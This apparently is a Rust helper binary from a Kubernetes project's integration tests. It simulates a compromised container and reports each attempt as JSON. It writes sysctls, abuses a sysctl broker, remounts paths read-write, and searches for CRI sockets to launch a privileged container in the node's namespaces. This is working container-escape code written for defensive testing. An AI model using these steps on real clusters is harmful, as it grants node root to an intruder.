//! A stand-in for code an attacker runs inside one of the DaemonSet's
//! containers (a compromised agent): the privilege cases of the k8s tests
//! (`tests/k8s/privilege.rs`) copy it, built static, onto a node and run it
//! in the container with `kubectl exec`, each command one attack. It prints one JSON
//! object per attempt on stdout and always exits 0: what worked is for the
//! test to judge.
//!
//!   intruder write PATH VALUE           write VALUE into PATH (a sysctl, a record)
//!   intruder broker SOCKET NAME VALUE   ask the sysctl broker for NAME in this netns, write VALUE
//!   intruder remount PATH rw|ro         remount the mount at PATH read-write / read-only
//!   intruder cri CGROUP_PARENT IMAGE    every CRI socket this container can see: a read, then
//!                                       RunPodSandbox and a privileged container in it

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use k8s_cri::v1::{
    ContainerConfig, ContainerMetadata, ImageSpec, LinuxContainerConfig,
    LinuxContainerSecurityContext, LinuxPodSandboxConfig, LinuxSandboxSecurityContext,
    NamespaceMode, NamespaceOption, PodSandboxConfig, PodSandboxMetadata,
};
use podgate_integration::cri::Cri;
use serde_json::{json, Value};
use std::ffi::CString;
use std::io::Write;
use std::os::unix::fs::FileTypeExt;
use std::path::{Path, PathBuf};

fn outcome<T>(r: Result<T, String>) -> Value {
    match r {
        Ok(_) => json!({"ok": true}),
        Err(e) => json!({"ok": false, "error": e}),
    }
}

fn write(path: &str, value: &str) -> Result<(), String> {
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create(!path.starts_with("/proc") && !path.starts_with("/host/proc"))
        .truncate(true)
        .open(path)
        .map_err(|e| format!("open: {e}"))?;
    f.write_all(value.as_bytes())
        .map_err(|e| format!("write: {e}"))
}

fn broker(socket: &str, name: &str, value: &str) -> Result<(), String> {
    let f =
        podgate_kit::sysctl::broker::open_rw(Path::new(socket), name).map_err(|e| e.to_string())?;
    (&f).write_all(value.as_bytes())
        .map_err(|e| format!("write: {e}"))
}

fn remount(path: &str, rw: bool) -> Result<(), String> {
    let target = CString::new(path).map_err(|e| e.to_string())?;
    let mut flags = libc::MS_REMOUNT | libc::MS_BIND;
    if !rw {
        flags |= libc::MS_RDONLY;
    }
    // SAFETY: a plain mount(2) call with NUL-terminated strings we own.
    let r = unsafe {
        libc::mount(
            std::ptr::null(),
            target.as_ptr(),
            std::ptr::null(),
            flags,
            std::ptr::null(),
        )
    };
    match r {
        0 => Ok(()),
        _ => Err(std::io::Error::last_os_error().to_string()),
    }
}

/// Every socket file under this container's mounts (not /proc, /sys,
/// /dev), a few levels deep.
fn sockets() -> Vec<PathBuf> {
    let mut points: Vec<PathBuf> = std::fs::read_to_string("/proc/self/mountinfo")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split(' ').nth(4).map(PathBuf::from))
        .filter(|p| !["/proc", "/sys", "/dev"].iter().any(|x| p.starts_with(x)))
        .collect();
    points.sort();
    points.dedup();
    let mut found = Vec::new();
    for p in points {
        walk(&p, 4, &mut found);
    }
    found.sort();
    found.dedup();
    found
}

fn walk(dir: &Path, depth: usize, found: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        if ["/proc", "/sys", "/dev"]
            .iter()
            .any(|x| e.path().starts_with(x))
        {
            continue;
        }
        let Ok(t) = e.file_type() else { continue };
        if t.is_socket() {
            found.push(e.path());
        } else if t.is_dir() && depth > 0 {
            walk(&e.path(), depth - 1, found);
        }
    }
}

/// The sandbox an attacker asks for: the node's network and PID
/// namespaces, privileged.
fn sandbox(cgroup_parent: &str) -> PodSandboxConfig {
    PodSandboxConfig {
        metadata: Some(PodSandboxMetadata {
            name: "intruder".into(),
            uid: "intruder".into(),
            namespace: "kube-system".into(),
            attempt: 0,
        }),
        linux: Some(LinuxPodSandboxConfig {
            cgroup_parent: cgroup_parent.into(),
            security_context: Some(LinuxSandboxSecurityContext {
                privileged: true,
                namespace_options: Some(NamespaceOption {
                    network: NamespaceMode::Node as i32,
                    pid: NamespaceMode::Node as i32,
                    ..Default::default()
                }),
                ..Default::default()
            }),
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// A privileged container in the node's network and PID namespaces: node
/// root already (it can enter PID 1's mount namespace). It mounts nothing
/// of the node's: on a regression the runtime gives it out and the test
/// removes it, and a host `/` mounted in a container being removed is the
/// machine's own root (the k8s nodes share the machine's filesystem).
fn container(image: &str) -> ContainerConfig {
    ContainerConfig {
        metadata: Some(ContainerMetadata {
            name: "intruder".into(),
            attempt: 0,
        }),
        image: Some(ImageSpec {
            image: image.into(),
            ..Default::default()
        }),
        linux: Some(LinuxContainerConfig {
            security_context: Some(LinuxContainerSecurityContext {
                privileged: true,
                ..Default::default()
            }),
            ..Default::default()
        }),
        ..Default::default()
    }
}

fn cri(cgroup_parent: &str, image: &str) {
    for socket in sockets() {
        let mut out = json!({"socket": socket});
        match Cri::connect_socket(&socket) {
            Err(e) => out["connect"] = json!({"ok": false, "error": e}),
            Ok(mut c) => {
                out["connect"] = json!({"ok": true});
                out["list"] = match c.count_sandboxes() {
                    Ok(n) => json!({"ok": true, "sandboxes": n}),
                    Err(e) => json!({"ok": false, "error": e}),
                };
                let config = sandbox(cgroup_parent);
                match c.run_sandbox(&config) {
                    Err(e) => out["runPodSandbox"] = json!({"ok": false, "error": e}),
                    Ok(id) => {
                        out["runPodSandbox"] = json!({"ok": true, "id": id});
                        out["createContainer"] =
                            match c.start_container(&id, &config, container(image)) {
                                Ok(cid) => json!({"ok": true, "id": cid}),
                                Err(e) => json!({"ok": false, "error": e}),
                            };
                    }
                }
            }
        }
        println!("{out}");
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let a: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = match a.as_slice() {
        ["write", path, value] => outcome(write(path, value)),
        ["broker", socket, name, value] => outcome(broker(socket, name, value)),
        ["remount", path, mode] => outcome(remount(path, *mode == "rw")),
        ["cri", cgroup_parent, image] => {
            cri(cgroup_parent, image);
            return;
        }
        _ => json!({"ok": false, "error": format!("usage: see the source; got {args:?}")}),
    };
    println!("{out}");
}
